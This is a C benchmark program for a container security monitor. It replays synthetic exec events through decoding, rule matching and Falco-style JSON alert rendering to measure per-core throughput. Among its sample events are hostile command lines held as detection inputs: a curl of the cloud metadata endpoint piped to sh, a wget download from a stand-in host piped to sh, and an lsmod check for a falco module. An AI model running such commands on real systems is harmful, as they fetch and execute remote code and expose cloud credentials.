/* SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause */
/*
 * Full userspace pipeline replay on one core: ring-buffer records as the BPF
 * program writes them -> event_decode -> cached container context (what
 * enrich copies on a cache hit) -> ruleset_eval -> per match the output
 * template and the Falco JSON line, as the daemon's emit() does.
 * Enrichment misses are measured apart (enrich_cost); rules alone by
 * rules_replay.
 *
 *   replay [-n EVENTS] [-r RULES_FILE]
 *
 * Prints one JSON object: events, matches, json_bytes, seconds, events_per_s,
 * ns_per_event (full pipeline), and what each stage adds: decode_ns and
 * rules_ns per event (context copy included), format_ns_per_alert.
 */
#include <errno.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "output/alert_format.h"
#include "output/alert_render.h"
#include "kernel/event_decode.h"
#include "rules/rules.h"

#define MAX_MATCHES 32
#define N_RECORDS 6
#define CONTAINER_FULL_ID "8fa687e4cf125c4f91e249399af2c3171e3fae5f350ea25fd9b39c826b2e7a78"

struct record {
	struct ss_event ev;
	size_t len;
};

struct sample {
	const char *comm;
	const char *filename;
	const char *interp;
	const char *exe_leaf; /* exe_path slots, leaf first */
	const char *exe_dir;
	const char *parent;
	unsigned lineage;
	unsigned tty;
	unsigned vpid;
	const char *argv[8];
};

/* Execs of the kind the bench's container storm and the seed produce. */
static const struct sample samples[N_RECORDS] = {
	{"sh",
	 "/bin/sh",
	 "",
	 "busybox",
	 "bin",
	 "exec_storm",
	 SS_LINEAGE_INJECTED,
	 0,
	 42,
	 {"/bin/sh", "-c", "true", NULL}},
	{"bash",
	 "/usr/bin/bash",
	 "",
	 "bash",
	 "bin",
	 "runc:[2:INIT]",
	 SS_LINEAGE_INIT_TREE,
	 0,
	 9,
	 {"bash", "-c", "/usr/sbin/lsmod | cut -d' ' -f1 | grep -qx \"falco\"", NULL}},
	{"bash",
	 "/bin/bash",
	 "",
	 "bash",
	 "bin",
	 "runc",
	 SS_LINEAGE_INJECTED,
	 34816,
	 77,
	 {"bash", NULL}},
	{"dash",
	 "/docker-entrypoint.sh",
	 "/bin/sh",
	 "dash",
	 "bin",
	 "containerd-shim",
	 SS_LINEAGE_ENTRYPOINT,
	 0,
	 1,
	 {"/bin/sh", "/docker-entrypoint.sh", "nginx", "-g", "daemon off;", NULL}},
	{"sh",
	 "/bin/sh",
	 "",
	 "dash",
	 "bin",
	 "python3",
	 SS_LINEAGE_INIT_TREE,
	 0,
	 31,
	 {"sh", "-c", "curl -s http://169.254.169.254/latest/meta-data/ | sh", NULL}},
	{"busybox",
	 "/bin/busybox",
	 "",
	 "busybox",
	 "bin",
	 "sh",
	 SS_LINEAGE_INIT_TREE,
	 0,
	 12,
	 {"busybox", "sh", "-c", "wget -q -O- http://x/a.sh | sh", NULL}},
};

static uint64_t now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000000ull + (uint64_t)ts.tv_nsec;
}

static void build_record(const struct sample *s, unsigned i, struct record *r)
{
	struct ss_event *e = &r->ev;
	size_t off = 0;

	memset(e, 0, sizeof(*e));
	e->boot_ns = 1000000000ull * 3600 + i * 1000;
	e->cgroup_id = 4242;
	e->cap_effective = 0xa80425fb;
	e->cap_permitted = 0xa80425fb;
	e->version = SS_EVENT_VERSION;
	e->header_len = SS_EVENT_HEADER_LEN;
	e->flags = SS_F_PIDNS | SS_F_CGROUP_CONTAINER | SS_F_MATCH_COMM;
	e->pid = 20000 + i;
	e->tid = e->pid;
	e->vpid = s->vpid;
	e->ppid = 19999;
	e->loginuid = (__u32)-1;
	e->tty = s->tty;
	e->pidns_inum = 4026532301u;
	e->mntns_inum = 4026532299u;
	e->exe_nlink = 1;
	e->lineage = s->lineage;
	e->ancestor_count = 2;
	e->pidns_level = 1;
	snprintf(e->comm, sizeof(e->comm), "%s", s->comm);
	e->ancestors[0].pid = 19999;
	snprintf(e->ancestors[0].comm, sizeof(e->ancestors[0].comm), "%s", s->parent);
	e->ancestors[1].pid = 19000;
	snprintf(e->ancestors[1].comm, sizeof(e->ancestors[1].comm), "conmon");
	snprintf(e->cgroup_name, sizeof(e->cgroup_name), "libpod-%s.scope", CONTAINER_FULL_ID);
	snprintf(e->filename, sizeof(e->filename), "%s", s->filename);
	if (s->interp[0]) {
		snprintf(e->interp, sizeof(e->interp), "%s", s->interp);
		e->flags |= SS_F_INTERP;
	}
	snprintf(e->exe_path, SS_EXE_SLOT_LEN, "%s", s->exe_leaf);
	snprintf(e->exe_path + SS_EXE_SLOT_LEN, SS_EXE_SLOT_LEN, "%s", s->exe_dir);
	e->exe_path_len = 2;
	for (int a = 0; s->argv[a]; a++) {
		size_t l = strlen(s->argv[a]) + 1;

		memcpy(e->argv + off, s->argv[a], l);
		off += l;
	}
	e->argv_len = (__u16)off;
	r->len = SS_EVENT_HEADER_LEN + off;
}

/* What enrich copies from its cache for a known container. */
static void fill_context(struct exec_event *ev)
{
	struct container_info *c = &ev->container;

	c->is_container = true;
	c->runtime = RUNTIME_PODMAN;
	memcpy(c->id, CONTAINER_FULL_ID, 12);
	c->id[12] = 0;
	snprintf(c->full_id, sizeof(c->full_id), "%s", CONTAINER_FULL_ID);
	snprintf(c->name, sizeof(c->name), "web-1");
	snprintf(c->image, sizeof(c->image), "docker.io/library/nginx:1.27");
	snprintf(c->image_repository, sizeof(c->image_repository), "docker.io/library/nginx");
	snprintf(c->image_tag, sizeof(c->image_tag), "1.27");
	c->privileged = TRI_FALSE;
	snprintf(ev->user_name, sizeof(ev->user_name), "root");
	snprintf(ev->hostname, sizeof(ev->hostname), "k8s-master-01");
}

/* The daemon's own rendering path: one renderer, base fields shared per event. */
static int emit(struct alert_renderer *ar, const struct rule *r, const struct exec_event *ev,
		size_t *bytes)
{
	struct alert_out out;
	int ret = alert_renderer_render(ar, r, ev, 0, &out);

	if (ret)
		return ret;
	*bytes += out.json_len;
	return 0;
}

int main(int argc, char **argv)
{
	struct rules_options ropt = {.min_priority = PRIO_DEBUG};
	const char *rules = "rules/shellsentry_rules.yaml";
	struct record *recs = NULL;
	struct exec_event *ev = NULL;
	struct ruleset *rs = NULL;
	struct ss_error err = {0};
	const struct rule *m[MAX_MATCHES];
	struct alert_renderer ar = {0};
	size_t matches = 0, bytes = 0;
	long n = 200000;
	uint64_t t0, dt, stage_ns[3];
	cpu_set_t one;
	int opt, rc = 1;

	while ((opt = getopt(argc, argv, "n:r:")) != -1) {
		if (opt == 'n' && (n = atol(optarg)) > 0 && n <= 1000000000L)
			continue;
		if (opt == 'r') {
			rules = optarg;
			continue;
		}
		fprintf(stderr, "usage: replay [-n 1..1e9] [-r RULES_FILE]\n");
		return 2;
	}
	/* One core: stay where we start, so the number is per core. */
	CPU_ZERO(&one);
	CPU_SET(sched_getcpu() < 0 ? 0 : sched_getcpu(), &one);
	sched_setaffinity(0, sizeof(one), &one);

	recs = calloc(N_RECORDS, sizeof(*recs));
	ev = calloc(1, sizeof(*ev));
	if (!recs || !ev || alert_renderer_init(&ar, true, false)) {
		fprintf(stderr, "replay: out of memory\n");
		goto out;
	}
	if (ruleset_load(&rules, 1, &ropt, &rs, &err, stderr)) {
		fprintf(stderr, "replay: %s:%d:%d: %s\n", err.file, err.line, err.col, err.msg);
		goto out;
	}
	for (unsigned i = 0; i < N_RECORDS; i++)
		build_record(&samples[i], i, &recs[i]);

	/* Stages, cumulative: decode; + context and rules; + output and JSON. */
	for (int stage = 0; stage < 3; stage++) {
		t0 = now_ns();
		matches = 0;
		bytes = 0;
		for (long i = 0; i < n; i++) {
			const struct record *r = &recs[i % N_RECORDS];
			size_t k;

			if (event_decode(&r->ev, r->len, 1700000000000000000ll, ev)) {
				fprintf(stderr, "replay: record %ld does not decode\n",
					i % N_RECORDS);
				goto out;
			}
			if (stage == 0)
				continue;
			fill_context(ev);
			k = ruleset_eval(rs, ev, m, MAX_MATCHES);
			alert_renderer_next_event(&ar);
			matches += k;
			if (stage == 1)
				continue;
			for (size_t j = 0; j < k; j++)
				if (emit(&ar, m[j], ev, &bytes)) {
					fprintf(stderr, "replay: alert too large\n");
					goto out;
				}
		}
		stage_ns[stage] = now_ns() - t0;
	}
	dt = stage_ns[2];
	if (!matches) {
		fprintf(stderr, "replay: no event matched a rule: the replay measures nothing\n");
		goto out;
	}
	printf("{\"events\":%ld,\"matches\":%zu,\"json_bytes\":%zu,\"seconds\":%.3f,"
	       "\"events_per_s\":%.0f,\"ns_per_event\":%.0f,\"decode_ns\":%.0f,"
	       "\"rules_ns\":%.0f,\"format_ns_per_alert\":%.0f}\n",
	       n, matches, bytes, dt / 1e9, n / (dt / 1e9), (double)dt / (double)n,
	       (double)stage_ns[0] / (double)n, (double)(stage_ns[1] - stage_ns[0]) / (double)n,
	       (double)(stage_ns[2] - stage_ns[1]) / (double)matches);
	rc = 0;
out:
	ruleset_free(rs);
	free(recs);
	free(ev);
	alert_renderer_free(&ar);
	return rc;
}
